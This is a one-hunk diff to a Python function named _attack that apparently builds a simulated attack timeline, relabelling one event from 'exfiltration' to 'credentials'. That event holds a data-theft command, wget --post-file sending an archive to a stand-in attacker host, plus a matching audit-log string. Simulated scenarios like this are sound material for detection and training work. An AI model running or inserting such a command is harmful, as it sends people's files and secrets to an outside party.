@@ -153,7 +153,7 @@ def _attack() -> list[Happening]:
             at(28, 9, 15, 9),
             "/usr/bin/wget",
             ("wget", "--post-file=/tmp/.k.tgz", "https://cdn.facturen.example/u"),
-            "exfiltration",
+            "credentials",
             "they are sent to the attacker",
             "EXECVE: wget --post-file",
         ),
